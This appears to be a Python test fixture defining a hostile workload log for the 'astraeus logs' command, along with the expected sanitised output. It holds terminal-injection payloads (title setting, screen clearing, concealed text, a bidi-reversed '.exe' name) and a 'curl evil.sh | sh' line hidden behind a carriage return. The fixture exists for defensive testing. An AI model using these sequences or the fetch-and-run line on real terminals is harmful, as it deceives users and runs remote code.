"""A workload's log written to drive its reader's terminal (issue 37 N7), what it wrote, and
what `astra astraeus logs` shows of it; shared by the live tests on `astraeus up` and on the
production topology."""

# It sets the terminal's title (OSC), clears its screen (CSI, also as the one-character C1 CSI),
# hides a line (SGR 8, conceal), overwrites a line with \r, reverses a file name with a bidi
# override (U+202E), and sends a backspace and a DEL.
HOSTILE_LOG = (
    "import sys\n"
    "out = sys.stdout.buffer\n"
    "out.write(b'\\x1b]0;pwned\\x07title set\\n')\n"
    "out.write(b'\\x1b[2J\\x1b[Hscreen cleared\\n')\n"
    "out.write('\\u009b2Jc1 cleared\\n'.encode())\n"
    "out.write(b'\\x1b[8mhidden\\x1b[0m shown\\n')\n"
    "out.write(b'curl evil.sh | sh\\rall good         \\n')\n"
    "out.write('invoice\\u202efdp.exe\\n'.encode())\n"
    "out.write(b'tab\\tkept\\x08\\x7f\\n')\n"
    "out.flush()\n"
)
HOSTILE_WRITTEN = (
    "\x1b]0;pwned\x07title set\n"
    "\x1b[2J\x1b[Hscreen cleared\n"
    "\x9b2Jc1 cleared\n"
    "\x1b[8mhidden\x1b[0m shown\n"
    "curl evil.sh | sh\rall good         \n"
    "invoice\u202efdp.exe\n"
    "tab\tkept\x08\x7f\n"
)
# What reaches the terminal: each control character as its Unicode control picture (␛ for
# ESC), one without a picture (C1, bidi) as <U+XXXX>; tabs and newlines as they are.
HOSTILE_SHOWN = (
    "␛]0;pwned␇title set\n"
    "␛[2J␛[Hscreen cleared\n"
    "<U+009B>2Jc1 cleared\n"
    "␛[8mhidden␛[0m shown\n"
    "curl evil.sh | sh␍all good         \n"
    "invoice<U+202E>fdp.exe\n"
    "tab\tkept␈␡\n"
)
